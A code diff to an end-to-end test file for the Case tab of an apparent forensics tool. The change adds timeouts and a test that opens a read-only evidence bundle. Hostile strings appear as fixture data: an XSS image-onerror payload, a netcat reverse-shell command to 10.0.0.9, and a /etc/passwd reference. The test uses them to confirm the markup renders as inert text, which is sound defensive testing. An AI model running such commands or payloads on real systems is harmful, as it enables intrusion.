@@ -2,7 +2,9 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Browser, Page } from 'playwright-core';
 import { startServe } from '../helpers/cli.js';
 import { artifactPath, launchBrowser } from '../helpers/browser.js';
-import { tempDataDir } from '../helpers/case-fixtures.js';
+import path from 'node:path';
+import { makeEvidence, makeFindings, makeScan, tempDataDir } from '../helpers/case-fixtures.js';
+import { writeBundle } from '../../electron/engine/bundle/write-bundle.js';
 
 const HOSTILE = '<img src=x onerror="window.__pwned=1">';
 
@@ -25,8 +27,9 @@ describe('Case tab in web mode', () => {
   });
 
   it('creates a case, adds a note with markup as text, verifies, and previews the HTML report sandboxed', async () => {
-    await page.getByTestId('tab-case').click();
-    await page.getByTestId('case-view').waitFor();
+    // The machine may be busy with other suites: give the first paint time before acting.
+    await page.getByTestId('tab-case').click({ timeout: 60_000 });
+    await page.getByTestId('case-view').waitFor({ timeout: 60_000 });
     await page.getByTestId('case-new-name').fill(`Case ${HOSTILE}`);
     await page.getByTestId('case-create').click();
     await expect.poll(() => page.getByTestId('case-title').textContent()).toBe(`Case ${HOSTILE}`);
@@ -57,7 +60,7 @@ describe('Case tab in web mode', () => {
     for (const action of ['create', 'note', 'verify', 'export']) expect(custody).toContain(action);
     expect(custody).toContain('e2e-analyst');
     await page.screenshot({ path: artifactPath('case-tab.png'), fullPage: true });
-  });
+  }, 180_000);
 
   it('keeps a second case side by side and switches between them', async () => {
     await page.getByTestId('case-new-name').fill('Second case');
@@ -68,5 +71,21 @@ describe('Case tab in web mode', () => {
     const first = await page.getByTestId('case-picker').locator('option', { hasText: 'Case <img' }).getAttribute('value');
     await page.getByTestId('case-picker').selectOption(first!);
     await expect.poll(() => page.getByTestId('case-title').textContent()).toBe(`Case ${HOSTILE}`);
-  });
+  }, 120_000);
+
+  it('opens an offline bundle as a read-only case and shows its recorded evidence as text', async () => {
+    const result = makeScan(makeFindings(6));
+    const bundle = path.join(tmp.dir, 'remote.tar.gz');
+    await writeBundle(bundle, { result, evidence: makeEvidence(result, `nc -e /bin/sh 10.0.0.9 4444 ${HOSTILE}`), createdBy: 'remote-analyst' });
+    await page.getByTestId('case-bundle-path').fill(bundle);
+    await page.getByTestId('case-bundle-path').press('Enter');
+    await expect.poll(() => page.locator('.cv-status', { hasText: 'read-only bundle' }).count(), { timeout: 30_000 }).toBe(1);
+    expect(await page.getByTestId('case-add-scan').isDisabled()).toBe(true);
+    const panel = page.getByTestId('case-evidence');
+    await panel.waitFor({ timeout: 30_000 });
+    await expect.poll(() => panel.textContent()).toContain(`nc -e /bin/sh 10.0.0.9 4444 ${HOSTILE}`);
+    expect(await panel.textContent()).toContain('/etc/passwd');
+    expect(await page.locator('img[src=x]').count()).toBe(0);
+    await page.screenshot({ path: artifactPath('case-bundle.png'), fullPage: true });
+  }, 120_000);
 });
